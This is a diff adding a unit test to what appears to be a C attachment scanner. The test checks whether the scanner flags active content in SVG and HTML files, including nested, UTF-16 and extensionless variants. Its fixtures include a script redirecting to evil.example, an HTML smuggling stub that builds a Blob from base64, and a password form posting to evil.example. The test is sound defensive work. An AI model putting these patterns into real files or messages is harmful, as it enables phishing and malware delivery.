@@ -291,6 +291,73 @@ test_hidden_names(void **state)
 	check("report:2026.txt", NULL, text, sizeof(text), NULL, 0, false);
 }
 
+/* Script in attached SVG and HTML files; the message's own HTML body and
+ * plain text that only mention such things are left to the spam rules. */
+static void
+test_active_content(void **state)
+{
+	static const char svg_script[] =
+	    "<?xml version=\"1.0\"?>\n<svg "
+	    "xmlns=\"http://www.w3.org/2000/svg\">"
+	    "<script>location='https://evil.example/'</script></svg>";
+	static const char svg_onload[] =
+	    "<svg xmlns=\"http://www.w3.org/2000/svg\" onload =\"go()\"/>";
+	static const char svg_clean[] =
+	    "<svg xmlns=\"http://www.w3.org/2000/svg\"><circle r=\"4\" "
+	    "fill=\"red\"/><text>online</text></svg>";
+	static const char smuggle[] =
+	    "<html><body><script>var b=atob('TVqQ');var f=new Blob([b]);"
+	    "URL.createObjectURL(f);</script></body></html>";
+	static const char report[] =
+	    "<html><script>draw()</script><p>Q3 figures</p></html>";
+	static const char login[] =
+	    "<html><form action=\"https://evil.example/\">Password: <input "
+	    "name=p TYPE = 'Password'></form></html>";
+	char wide[2 * sizeof(svg_script) + 2];
+	size_t wlen = 0;
+	unsigned char *zip;
+	size_t zlen;
+
+	(void)state;
+	check("logo.svg", "image/svg+xml", svg_script, strlen(svg_script),
+	      W(ATTACH_SYM_ACTIVE_SVG), 1, true);
+	check("logo.svg", NULL, svg_onload, strlen(svg_onload),
+	      W(ATTACH_SYM_ACTIVE_SVG), 1, true);
+	check(NULL, "image/svg+xml", svg_onload, strlen(svg_onload),
+	      W(ATTACH_SYM_ACTIVE_SVG), 1, true);
+	check("logo.svg", "image/svg+xml", svg_clean, strlen(svg_clean), NULL,
+	      0, false);
+	/* an SVG without an extension, known by its first element */
+	check("chart", "application/octet-stream", svg_script,
+	      strlen(svg_script), W(ATTACH_SYM_ACTIVE_SVG), 1, true);
+	/* UTF-16, which browsers render */
+	wide[wlen++] = '\xff';
+	wide[wlen++] = '\xfe';
+	for (size_t i = 0; svg_script[i] != '\0'; i++) {
+		wide[wlen++] = svg_script[i];
+		wide[wlen++] = '\0';
+	}
+	check("logo.svg", NULL, wide, wlen, W(ATTACH_SYM_ACTIVE_SVG), 1, true);
+	check("invoice.html", "text/html", smuggle, strlen(smuggle),
+	      W(ATTACH_SYM_SMUGGLING, ATTACH_SYM_HTML_SCRIPT), 2, true);
+	check("report.htm", "text/html", report, strlen(report),
+	      W(ATTACH_SYM_HTML_SCRIPT), 1, false);
+	check("secure.html", NULL, login, strlen(login),
+	      W(ATTACH_SYM_HTML_PASSWORD), 1, false);
+	/* a named text/html part is a file too */
+	check("document", "text/html", smuggle, strlen(smuggle),
+	      W(ATTACH_SYM_SMUGGLING, ATTACH_SYM_HTML_SCRIPT), 2, true);
+	/* not attached files */
+	check(NULL, "text/html", smuggle, strlen(smuggle), NULL, 0, false);
+	check("notes.txt", "text/plain", svg_onload, strlen(svg_onload), NULL,
+	      0, false);
+	zip = make_zip(
+	    (struct member[]){{"img/logo.svg", svg_onload, strlen(svg_onload)}},
+	    1, false, &zlen);
+	check("images.zip", NULL, zip, zlen, W(ATTACH_SYM_ACTIVE_SVG), 1, true);
+	free(zip);
+}
+
 static void
 test_limits(void **state)
 {
@@ -501,6 +568,7 @@ main(void)
 	    cmocka_unit_test(test_extension),
 	    cmocka_unit_test(test_files),
 	    cmocka_unit_test(test_hidden_names),
+	    cmocka_unit_test(test_active_content),
 	    cmocka_unit_test(test_limits),
 	    cmocka_unit_test(test_full_report_keeps_the_block),
 	    cmocka_unit_test(test_message),
